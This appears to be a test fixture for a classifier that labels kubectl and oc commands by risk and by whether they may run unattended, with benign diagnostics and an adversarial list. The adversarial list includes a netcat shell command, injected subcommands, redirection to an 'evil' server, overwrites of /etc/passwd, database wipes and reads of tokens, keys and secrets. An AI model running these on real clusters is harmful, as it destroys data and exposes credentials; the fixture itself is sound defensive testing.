import { labelled } from './label.ts';
import type { Labelled } from './label.ts';

/** kubectl and oc, one command without a pipe. */
export const everyday: Labelled[] = [
  ...labelled('bash', 'read', true, `
    kubectl get --raw /api/v1/nodes/node-3/proxy/stats/summary
    kubectl get --raw /api/v1/nodes/node-3/proxy/metrics/cadvisor
    kubectl get pods
    kubectl get pods -n production -o wide
    kubectl -n production get deploy,rs,pods -l app=cygni-api
    kubectl get pods -A --field-selector=status.phase!=Running
    kubectl get hpa cygni-api -n production -o yaml
    kubectl get pods -n production -o jsonpath='{.items[*].metadata.name}'
    kubectl get nodes -L topology.kubernetes.io/zone --show-labels
    kubectl get pods --sort-by='.status.containerStatuses[0].restartCount' --no-headers
    kubectl get nodes -o custom-columns=NAME:.metadata.name,TAINTS:.spec.taints
    kubectl get deploy api -o go-template='{{.spec.replicas}}'
    kubectl get clusters.postgresql.cnpg.io orders -n databases
    kubectl get virtualmachineinstances -A
    kubectl get configmap cygni-api -n production -o yaml
    kubectl get sealedsecrets -n production
    kubectl get apiservice v1beta1.metrics.k8s.io
    kubectl get pod/api-0 svc/api
    kubectl -v=6 --request-timeout=5s get componentstatuses
    kubectl get pods --watch=false
    kubectl get deployments -n production # what is there
    kubectl describe deployment/cygni-api -n production
    kubectl describe pod delete-old-sessions-28 -n production
    kubectl describe nodes
    kubectl describe clusterrole system:node-proxier
    kubectl logs deployment/cygni-api -n production --tail=200
    kubectl logs -n production -l app=cygni-api --all-containers --prefix --tail=-1
    kubectl logs api-7f9 -c proxy -p --since=1h30m --timestamps
    kubectl logs api-7f9 proxy
    kubectl logs deployment cygni-api --since-time=2026-03-01T00:00:00Z
    kubectl logs job/migrate-42 -n production
    kubectl logs svc/cygni-api --max-log-requests=20
    kubectl top pods -n production --sort-by=memory
    kubectl top pod api-7f9 --containers
    kubectl top nodes
    kubectl events -n production --types=Warning
    kubectl events --for deployment/cygni-api
    kubectl rollout history deployment/cygni-api -n production
    kubectl rollout -n production history deployment cygni-api --revision=4
    kubectl rollout status deployment/cygni-api --watch=false
    kubectl rollout status deployment/cygni-api --timeout=60s
    kubectl auth can-i delete pods -n production
    kubectl auth can-i --list
    kubectl auth whoami
    kubectl explain deployment.spec.strategy --recursive
    kubectl cluster-info
    kubectl version
    kubectl api-resources --verbs=list --namespaced -o name
    kubectl api-versions
    kubectl apply view-last-applied deployment/cygni-api -n production
    kubectl get --raw /readyz?verbose
    kubectl get --raw /metrics
    kubectl get --raw /apis/metrics.k8s.io/v1beta1/namespaces/production/pods
    kubectl get --raw "/apis/custom.metrics.k8s.io/v1beta1/namespaces/production/pods/*/http_requests"
    kubectl get --raw "/api/v1/namespaces/production/pods?labelSelector=app%3Dapi&limit=50"
    kubectl label pods api-7f9 --list
    oc get pods -n production
    oc get clusterversion
    oc get clusteroperators
    oc describe machineconfigpool worker
    oc projects
    oc whoami
    oc whoami --show-server
    oc adm top nodes
    oc logs bc/cygni-api
    oc rsh -n production api-7f9 df -h
    kubectl exec api-7f9 -- curl -s http://localhost:4000/metrics
    kubectl exec api-7f9 -- wget -qO- http://localhost:4000/metrics
    kubectl exec -it api-7f9 -n production -c api -- df -h
    kubectl exec deployment/cygni-api -- du -sh /var/lib/app
    kubectl exec api-7f9 ls /tmp
    kubectl exec api-7f9 -- ps aux
    kubectl exec api-7f9 -- top -b -n 1
    kubectl exec api-7f9 -- free -m
    kubectl exec api-7f9 -- cat /proc/meminfo
    kubectl exec api-7f9 -- /bin/cat /etc/resolv.conf
    kubectl exec api-7f9 -- tail -n 100 /var/log/app/app.log
    kubectl exec api-7f9 -- grep -i -A 5 'out of memory' /var/log/messages
    kubectl exec api-7f9 -- find /data -name '*.log' -mtime +7 -size +100M
    kubectl exec api-7f9 -- ss -tlnp
    kubectl exec api-7f9 -- ip addr show eth0
    kubectl exec api-7f9 -- nslookup orders.production.svc.cluster.local
    kubectl exec api-7f9 -- nc -zv db.production 5432
    kubectl exec api-7f9 -- timeout 5 nc -z -w 3 db.production 5432
    kubectl exec api-7f9 -- ping -c 3 db.production
    kubectl exec api-7f9 -- openssl x509 -in /etc/tls/tls.crt -noout -dates
    kubectl exec api-7f9 -- nginx -t
    kubectl exec api-7f9 -- java -version
    kubectl exec api-7f9 -- jcmd 1 VM.flags
    kubectl exec api-7f9 -- nvidia-smi --query-gpu=memory.used,memory.total --format=csv
    kubectl exec db-0 -- pg_isready -U postgres -h localhost
    kubectl exec db-0 -- patronictl -c /etc/patroni.yml list
    kubectl exec redis-0 -- redis-cli -h localhost INFO memory
    kubectl exec redis-0 -- redis-cli CONFIG GET maxmemory
    kubectl exec redis-0 -- redis-cli LLEN jobs
    kubectl exec mq-0 -- rabbitmqctl list_queues name messages consumers
    kubectl exec kafka-0 -- /opt/kafka/bin/kafka-topics.sh --bootstrap-server localhost:9092 --describe --topic orders
    kubectl exec kafka-0 -- kafka-consumer-groups --bootstrap-server localhost:9092 --describe --group billing
    kubectl exec etcd-0 -- etcdctl --endpoints=https://127.0.0.1:2379 --cacert=/c/ca --cert=/c/crt --key=/c/k endpoint status -w table
    kubectl -n rook-ceph exec -it deploy/rook-ceph-tools -- ceph -s
    kubectl -n rook-ceph exec deploy/rook-ceph-tools -- ceph osd pool ls detail
    kubectl exec cassandra-0 -- nodetool status
    kubectl exec vault-0 -- vault status
    kubectl exec api-7f9 -- sh -c "df -h | grep /data"
    kubectl exec db-0 -- bash -c 'psql "$DATABASE_URL" -c "SELECT count(*) FROM pg_stat_activity"'
    kubectl exec db-0 -- su - postgres -c "psql -c 'SELECT 1'"
    kubectl cnpg psql orders -- -c "SELECT count(*) FROM pg_stat_activity"
    kubectl exec prometheus-0 -- promtool query instant http://localhost:9090 'up == 0'
    kubectl exec alertmanager-0 -- amtool silence query
    kubectl exec alertmanager-0 -- amtool cluster show
  `),
  ...labelled('bash', 'read', false, `
    kubectl diff -f deployment.yaml
    kubectl get pods -w
    kubectl get pods --watch
    kubectl logs -f deployment/cygni-api
    kubectl logs api-7f9 -f --tail 100
    kubectl describe pod $POD -n \${NAMESPACE}
    kubectl get pods -n NAMESPACE
    kubectl get pod POD_NAME -o yaml
    kubectl get svc {service} -n {namespace}
    kubectl describe deployment your-app
    kubectl logs api-xxxxx-yyyyy
    kubectl logs ... --previous
    kubectl logs -l app=APP_NAME
    kubectl logs api-7f9 --tail=<lines>
    kubectl get events --field-selector involvedObject.name=<pod>
    kubectl get --raw /api/v1/namespaces/<namespace>/pods
    kubectl get secret db-credentials -o yaml
    kubectl get secrets -n production
    kubectl get pods,secrets
    kubectl describe secret/db-credentials
    kubectl get pod/a secret/b
    kubectl get Secrets.v1 -A
    kubectl get --raw /api/v1/namespaces/production/secrets
    kubectl get deploy api -o jsonpath='{.spec.template.spec.containers[0].env}'
    kubectl set env deployment/cygni-api --list
    kubectl cluster-info dump
    kubectl --context other get pods
    kubectl get pods --context $CONTEXT -n production
    kubectl --context=other -n production logs api-7f9 --tail=50 | grep -i timeout
    oc --context other get --raw /readyz
    kubectl config current-context
    kubectl config get-contexts
    kubectl config view
    kubectl plugin list
    kubectl get --help
    kubectl wait --for=delete pod/api-7f9
    kubectl wait --for=condition=Ready pod -l app=api --timeout=60s
    kubectl rollout status deployment/cygni-api
    kubectl auth can-i list pods --as=system:serviceaccount:production:api
    oc adm node-logs node-3 -u kubelet
    kubectl cnpg status orders -n databases
    oc status -n production
    oc adm policy who-can delete pods
    oc adm upgrade
    oc whoami -t
    oc extract secret/api --to=-
    kubectl exec api-7f9 -- top
    kubectl exec api-7f9 -- tail -f /var/log/app.log
    kubectl exec api-7f9 -- ping db.production
    kubectl exec api-7f9 -- vmstat 1
    kubectl exec api-7f9 -- jstack 1
    kubectl exec api-7f9 -- cat /app/config.yaml
    kubectl exec api-7f9 -- du -sh /
    kubectl exec <pod> -n <namespace> -- df -h
    kubectl exec redis-0 -- redis-cli KEYS '*'
    kubectl exec redis-0 -- redis-cli GET session:42
    kubectl exec redis-0 -- redis-cli -a $PASSWORD PING
    kubectl exec redis-0 -- redis-cli MONITOR
  `),
  ...labelled('bash', 'change', false, `
    kubectl scale deployment cygni-api -n production --replicas=20
    kubectl scale --replicas=3 sts/worker
    kubectl scale deploy/api deploy/worker --replicas=2
    kubectl scale rs/api-7f9 --replicas=0
    kubectl scale deployment -l tier=batch --replicas=0
    kubectl scale --current-replicas=2 --replicas=3 deployment/cygni-api
    kubectl scale deployment DEPLOYMENT_NAME --replicas=N -n <namespace>
    kubectl set env deployment/cygni-api -n production DB_POOL_SIZE=50
    kubectl set env deploy/cygni-api DEBUG- LEVEL=info
    kubectl set env deploy/cygni-api -c web LEVEL=info
    kubectl set env deployment/cygni-api SIZE=<n>
    kubectl rollout restart deployment/cygni-api -n production
    kubectl rollout restart deploy/api deploy/worker
    kubectl rollout restart deployment -l tier=web -n $NAMESPACE
    kubectl rollout undo deployment/cygni-api --to-revision=3
    kubectl rollout undo deployment/<name>
    kubectl rollout pause deployment/cygni-api
    kubectl rollout resume deployment/cygni-api
    kubectl set image deployment/cygni-api api=registry/api:1.2.3 --record
    kubectl set image deployment/cygni-api api=registry/api:<tag>
    kubectl set resources deployment cygni-api --limits=memory=1Gi
    kubectl set serviceaccount deployment cygni-api runner
    kubectl patch deployment cygni-api -p '{"spec":{"paused":true}}'
    kubectl patch svc cygni-api --type=json -p '[{"op":"replace","path":"/spec/selector/color","value":"blue"}]'
    kubectl cordon node-3
    kubectl uncordon <node>
    kubectl taint nodes node-3 dedicated=db:NoSchedule
    kubectl taint nodes node-3 broken=true:NoExecute-
    kubectl label pods api-7f9 quarantine=true
    kubectl label node node-3 role-
    kubectl annotate deployment cygni-api note=incident --overwrite
    kubectl autoscale deployment cygni-api --min=2 --max=8 --cpu-percent=70
    kubectl create job report-now --from=cronjob/report -n production
    oc adm cordon node-3
    oc rollout latest dc/cygni-api
    oc scale dc/cygni-api --replicas=2
    oc patch clusterversion version --type=merge -p '{"spec":{"channel":"stable-4.16"}}'
  `),
  ...labelled('bash', 'terminate', false, `
    kubectl delete pod api-7f9 -n production
    kubectl delete pod <pod> -n <namespace>
    kubectl delete pods --all -n production --force --grace-period=0
    kubectl delete pvc data-0 data-1
    kubectl delete deployment/api service/api
    kubectl delete vmi broken-vm
    kubectl delete jobs --field-selector status.successful=1
    kubectl drain node-3 --ignore-daemonsets
    kubectl drain $NODE --ignore-daemonsets --delete-local-data --force
    oc adm drain node-3 --ignore-daemonsets --delete-emptydir-data
  `),
  ...labelled('bash', 'manual', false, `
    kubectl apply -f deployment.yaml
    kubectl edit deployment cygni-api
    kubectl debug -it api-7f9 --image=busybox
    kubectl port-forward svc/cygni-api 8080:80
    kubectl exec -it api-7f9 -- bash
    kubectl exec -it api-7f9 bash
    kubectl exec -it redis-0 -- redis-cli
    kubectl exec db-0 -- mongosh --eval 'db.stats()'
    kubectl cp api-7f9:/tmp/heap ./heap
    kubectl run tmp --rm -it --image=busybox -- sh
    kubectl create secret generic x --from-literal=a=b
    kubectl create token runner
    kubectl expose deployment cygni-api --port=80
    kubectl config use-context production
    kubectl certificate approve csr-1
    kubectl cnpg promote orders orders-2
    oc adm must-gather
    oc debug node/node-3 -- chroot /host systemctl status kubelet
    oc project production
    oc rsh api-7f9
  `),
];

export const adversarial: Labelled[] = [
  ...labelled('bash', 'manual', false, `
    kubectl diff
    kubectl get --raw /api/v1/nodes/node-3/proxy/run/production/api/api?cmd=id
    kubectl get --raw /api/v1/nodes/node-3/proxy/stats/summary/../../exec
    kubectl get --raw /api/v1/nodes/node-3/proxy/configz
    kubectl scale deployment --all --replicas=0
    kubectl delete -f deployment.yaml
    kubectl delete --raw /api/v1/namespaces/production
    kubectl get --raw /api/v1/namespaces/x/services/y/proxy/shutdown
    kubectl get pods --raw /api/v1/namespaces/x/pods/y/proxy/quit
    kubectl get --raw /api/v1/proxy/nodes/node-3
    kubectl get --raw /api/v1/nodes/node-3/proxy/run/x/y/z?cmd=rm
    kubectl get --raw /api/v1/namespaces/x/pods/y/exec?command=rm
    kubectl get --raw /apis/subresources.kubevirt.io/v1/namespaces/x/virtualmachineinstances/y/console
    kubectl get --raw /api/v1/namespaces/x/../../../healthz
    kubectl get --raw /healthz --raw /api/v1/nodes/n/proxy/x
    kubectl get --raw https://elsewhere/healthz
    kubectl get --raw $URL
    kubectl get --raw '/api/v1/pods?watch=true'
    kubectl create --raw /api/v1/namespaces/x/pods -f x
    kubectl --kubeconfig=/tmp/other get pods
    kubectl get pods --server=https://evil
    kubectl get pods -s https://evil
    kubectl get pods --as=system:admin
    kubectl --context other delete pod api-7f9
    kubectl scale deployment/api --replicas=3 --context other
    kubectl --context other exec api-7f9 -- df -h
    kubectl --context get delete pod api-7f9
    kubectl --context other --as admin get pods
    kubectl --context $(kubectl delete pod api-7f9) get pods
    kubectl get pods --token=abc
    kubectl get pods --insecure-skip-tls-verify
    kubectl get pods --profile=cpu --profile-output=/etc/passwd
    kubectl get pods --log-file=/etc/passwd
    kubectl delete pod x --dry-run=client --dry-run=none
    kubectl delete pod x --dry-run client
    kubectl delete pod api-7f9 --help=false
    kubectl delete pod api-7f9 -n --help
    kubectl delete pod api-7f9 --help --help=false
    kubectl evil-plugin --help
    kubectl apply --prune -f .
    kubectl apply --dry-run=server -f x.yaml
    kubectl replace --force -f x.yaml
    kubectl evil-plugin get pods
    kubectl status
    kubectl whoami
    kubectl adm drain node-3
    kubectl $VERB pods
    kubectl get $KIND
    kubectl get <resource> api
    kubectl get pods $FLAGS
    kubectl get pods $OPTS -o wide
    kubectl get pod,$KIND
    kubectl get pods --$FLAG=x
    kubectl patch deployment api -p "$(cat patch.json)"
    kubectl patch deployment api --patch-file=patch.json
    kubectl set env deployment/api --from=secret/x
    kubectl set env deployment/api --list A=b
    kubectl set env deployment/api A=b --list=0
    kubectl set env deployment/api -
    kubectl label pods x --list a=b
    kubectl annotate pods x a=b --list
    kubectl delete pod
    kubectl exec api-7f9 -- sh -c "kubectl get pods"
    kubectl exec api-7f9 -- sh -c "ls; rm x"
    kubectl exec api-7f9 -- sh -c "> app.log"
    kubectl exec api-7f9 -- sh -c "cat /var/log/a.log | tee /var/log/b.log"
    kubectl exec api-7f9 -- sh -c 'ls $(rm x)'
    kubectl exec api-7f9 -- sh -c "$SCRIPT"
    kubectl exec api-7f9 -- sh -c "sh -c ls"
    kubectl exec api-7f9 -- bash -c "kill -3 1"
    kubectl exec api-7f9 -- env LD_PRELOAD=/tmp/x ls
    kubectl exec api-7f9 -- env rm x
    kubectl exec api-7f9 -- timeout 5 rm x
    kubectl exec api-7f9 -- timeout -s KILL 5 ls
    kubectl exec api-7f9 -- /tmp/df -h
    kubectl exec api-7f9 -- ./ls
    kubectl exec api-7f9 -- find /tmp -name x -delete
    kubectl exec api-7f9 -- find /tmp -exec rm {} +
    kubectl exec api-7f9 -- find /tmp -fprint /etc/passwd
    kubectl exec api-7f9 -- awk 'BEGIN{system("rm x")}'
    kubectl exec api-7f9 -- sed -n 'w /etc/passwd' x
    kubectl exec api-7f9 -- sort -o /etc/passwd /etc/hosts
    kubectl exec api-7f9 -- date -s 2020-01-01
    kubectl exec api-7f9 -- date 01010000
    kubectl exec api-7f9 -- hostname evil
    kubectl exec api-7f9 -- mount /dev/sda /mnt
    kubectl exec api-7f9 -- ifconfig eth0 down
    kubectl exec api-7f9 -- ip link set eth0 down
    kubectl exec api-7f9 -- ip r d default
    kubectl exec api-7f9 -- ip netns exec x rm y
    kubectl exec api-7f9 -- ss -K dst 10.0.0.1
    kubectl exec api-7f9 -- sysctl vm.drop_caches=3
    kubectl exec api-7f9 -- dmesg -c
    kubectl exec redis-0 -- redis-cli info -r 1 flushall
    kubectl exec api-7f9 -- nc -z -e sh host 80
    kubectl exec api-7f9 -- nc -l 8080
    kubectl exec api-7f9 -- ping -f host
    kubectl exec api-7f9 -- cat /dev/watchdog
    kubectl exec api-7f9 -- cat /var/log/../../dev/watchdog
    kubectl exec api-7f9 -- cat /proc/1/fd/0
    kubectl exec api-7f9 -- cat /var/log/../../etc/tls.key
    kubectl exec api-7f9 -- grep -r x /
    kubectl exec api-7f9 -- openssl x509 -in a -out /etc/passwd
    kubectl exec api-7f9 -- nginx -s reload
    kubectl exec api-7f9 -- jcmd 1 GC.heap_dump /tmp/x
    kubectl exec api-7f9 -- jcmd 1 GC.run
    kubectl exec api-7f9 -- nvidia-smi --gpu-reset
    kubectl exec api-7f9 -- wget http://localhost:4000/metrics
    kubectl exec redis-0 -- redis-cli GETDEL key
    kubectl exec redis-0 -- redis-cli GETEX key EX 1
    kubectl exec redis-0 -- redis-cli GETSET key value
    kubectl exec redis-0 -- redis-cli CONFIG SET maxmemory 1
    kubectl exec redis-0 -- redis-cli CONFIG RESETSTAT
    kubectl exec redis-0 -- redis-cli SLOWLOG RESET
    kubectl exec redis-0 -- redis-cli -n INFO FLUSHALL
    kubectl exec redis-0 -- redis-cli --eval script.lua
    kubectl exec redis-0 -- redis-cli -x SET key
    kubectl exec redis-0 -- redis-cli --rdb /tmp/x
    kubectl exec redis-0 -- redis-cli sort list store other
    kubectl exec redis-0 -- redis-cli $COMMAND
    kubectl exec db-0 -- patronictl reinit orders orders-1
    kubectl exec db-0 -- patronictl list -W
    kubectl exec db-0 -- su postgres -c "rm x"
    kubectl exec mq-0 -- rabbitmqctl eval 'init:stop().'
    kubectl exec kafka-0 -- kafka-topics --bootstrap-server x --list --delete --topic orders
    kubectl exec kafka-0 -- kafka-consumer-groups --bootstrap-server x --describe --group g --reset-offsets --execute
    kubectl exec ceph-0 -- ceph osd out 3
    kubectl exec ceph-0 -- ceph tell osd.1 injectargs --x
    kubectl exec etcd-0 -- etcdctl defrag
    kubectl exec cassandra-0 -- nodetool drain
    kubectl exec api-7f9 other -- ls
    kubectl exec api-7f9 -- rm --help
    kubectl get pods -- rm x
    kubectl delete \u2013f x
    kubectl get\u00a0pods
    kubectl get pods \u202e# evil
    kubectl delete pod x\rkubectl get pods
    kubectl get pods \u{e0041}
    kubectl get pods "unclosed
    kubectl get pods -o jsonpath-file=/etc/passwd
    kubectl get pods -o custom-columns-file=/etc/passwd
    kubectl get -f x.yaml
    kubectl get -k .
    kubectl cluster-info dump --output-directory=/tmp/x
    kubectl auth reconcile -f x.yaml
    kubectl config set-cluster x --server=https://evil
    oc adm policy add-cluster-role-to-user admin x
    oc adm certificate approve csr-1
    oc adm upgrade --to-latest
    oc extract secret/x --to=- --to=/tmp
    oc rsh api-7f9 rm x
    oc rsh api-7f9 -- sh -c "rm x"
  `),
  ...labelled('bash', 'read', false, `
    kubectl exec api-7f9 -- env
    kubectl exec api-7f9 -- printenv DATABASE_URL
    kubectl exec api-7f9 -- ps auxe
    kubectl exec api-7f9 -- cat /proc/1/environ
    kubectl exec api-7f9 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token
    kubectl exec api-7f9 -- cat /etc/tls/tls.key
    kubectl exec api-7f9 -- grep -r password /etc
    kubectl exec api-7f9 -- nginx -T
    kubectl exec redis-0 -- redis-cli CONFIG GET '*'
    kubectl exec redis-0 -- redis-cli CONFIG GET re[q]uirepass
    kubectl exec redis-0 -- redis-cli ACL LIST
    kubectl config view --raw
    kubectl config view --flatten --minify
    kubectl get all,secret -n production
    kubectl get secret/db-credentials -o jsonpath='{.data.password}'
    kubectl get SECRETS
    kubectl label secret db-credentials --list
    oc get oauthaccesstokens
  `),
  ...labelled('bash', 'change', false, `
    kubectl label pod x a=b --list=false
    kubectl scale deployment/get --replicas=0
    kubectl taint nodes get describe=logs:NoSchedule
  `),
  ...labelled('bash', 'terminate', false, `
    kubectl exec db-0 -- psql -c "SELECT 1" -c "DROP TABLE x"
    kubectl cnpg psql orders -- -c "SELECT 1; DROP TABLE x"
    kubectl exec api-7f9 -- curl -X DELETE http://localhost:9200/orders
    kubectl taint nodes node-3 a=b:NoExecute
    kubectl taint nodes node-3 a=b:<effect>
    kubectl patch pvc data-0 -p '{"metadata":{"finalizers":null}}'
    kubectl patch pvc data-0 --type=json -p '[{"op":"remove","path":"/metadata/f\\u0069nalizers"}]'
    kubectl delete pod x --dry-run=none
    kubectl delete pods get
    kubectl --namespace get delete pods logs
  `),
  ...labelled('bash', 'manual', false, `
    kubectl exec api-7f9 -- md5sum /dev/zero
    kubectl exec alertmanager-0 -- amtool silence expire 3f0c
    kubectl-cnpg restart orders-db
    kubectl exec api-7f9 -- dig -f /etc/passwd
    kubectl exec api-7f9 -- find /tmp $OPTIONS
    kubectl exec api-7f9 -- rabbitmqctl list_queues <extra-args>
  `),
  // Reads that must not run by themselves.
  ...labelled('bash', 'read', false, `
    kubectl exec db-0 -- cat /var/lib/postgresql/data/postgresql.auto.conf
    kubectl exec api-7f9 -- jinfo 1
    kubectl exec api-7f9 -- jps -lv
    kubectl exec api-7f9 -- jcmd 1 VM.command_line
    kubectl exec cache-0 -- redis-cli memory usage sessions samples 0
    kubectl exec cache-0 -- redis-cli scan 0 count 1000000
    oc get oauthclients -o yaml
  `),
];
